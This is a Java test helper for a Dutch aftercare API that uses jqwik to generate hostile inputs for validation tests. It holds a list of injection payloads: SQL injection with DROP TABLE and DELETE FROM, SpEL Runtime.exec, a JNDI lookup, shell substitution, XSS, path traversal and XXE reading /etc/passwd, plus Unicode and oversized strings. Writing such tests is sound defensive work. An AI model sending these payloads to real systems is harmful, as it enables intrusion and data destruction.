package nl.nazorg.api;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;

/**
 * Hostile text. Every value holds at least one character that is neither a letter, a digit, a dash nor
 * whitespace that trimming removes, so no identifier, code or date pattern can accept it.
 */
final class VijandigeTeksten {

    private static final List<String> INJECTIES = List.of(
            "' OR '1'='1", "'; DROP TABLE casus; --", "1; DELETE FROM zelfmelder_casus", "\" OR \"\"=\"", "admin'--",
            "${7*7}", "#{7*7}", "${jndi:ldap://example.invalid/a}", "#{T(java.lang.Runtime).getRuntime().exec('id')}",
            "${execution.setVariable('x', 1)}", "{{7*7}}", "<%= 7*7 %>", "$(id)", "`id`",
            "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)",
            "../../../../etc/passwd", "..\\..\\windows\\win.ini", "..%2F..%2Fengine-rest", "%00", "%s%s%s%n",
            "{\"$gt\": \"\"}", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
            "\r\nSet-Cookie: x=1", "=HYPERLINK(\"http://example.invalid\")");

    /** Right-to-left override, zero-width characters, BOM, NUL and other controls, surrogate halves, combining marks. */
    private static final String VREEMDE_TEKENS =
            "\u202E\u202D\u200B\u200C\u200D\u2060\uFEFF\u0000\u0007\u001B\u007F\uD800\uDBFF\uDC00\uDFFF\u00AD\u0301\uFFFD\uFFFF\u3000aZ9-";

    private static final List<String> ANKERS = List.of("\u202E", "\u200B", "\uFEFF", "\uD800", "\uDC00", "\uD83D\uDE00",
            "\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67", "\uFFFF", "\u0301", "\uFDFA", "\u0130", "\uFF10");

    private VijandigeTeksten() {
    }

    static Arbitrary<String> injecties() {
        return Arbitraries.of(INJECTIES);
    }

    static Arbitrary<String> unicode() {
        Arbitrary<String> omgeving = Arbitraries.strings().withChars(VREEMDE_TEKENS).ofMaxLength(24);
        return Combinators.combine(omgeving, Arbitraries.of(ANKERS), omgeving).as((voor, anker, na) -> voor + anker + na);
    }

    static Arbitrary<String> vijandig() {
        return Arbitraries.oneOf(injecties(), unicode());
    }

    /** Longer than any field allows; sometimes, encoded, longer than the 64 KB a body may be. */
    static Arbitrary<String> groot() {
        return Arbitraries.strings().withChars("abcXYZ019-.é€").ofMinLength(201).ofMaxLength(60_000)
                .map(tekst -> tekst + "\u202E");
    }

    /** A JSON string literal that keeps lone surrogate halves as \\u escapes instead of losing them in UTF-8. */
    static String json(String tekst) {
        StringBuilder json = new StringBuilder("\"");
        for (int i = 0; i < tekst.length(); i++) {
            char teken = tekst.charAt(i);
            boolean paar = Character.isHighSurrogate(teken) && i + 1 < tekst.length()
                    && Character.isLowSurrogate(tekst.charAt(i + 1));
            if (paar) {
                json.append(teken).append(tekst.charAt(++i));
            } else if (teken == '"' || teken == '\\') {
                json.append('\\').append(teken);
            } else if (teken < 0x20 || Character.isSurrogate(teken)) {
                json.append("\\u%04x".formatted((int) teken));
            } else {
                json.append(teken);
            }
        }
        return json.append('"').toString();
    }

    static String inPad(String tekst) {
        return URLEncoder.encode(tekst, StandardCharsets.UTF_8).replace("+", "%20");
    }
}
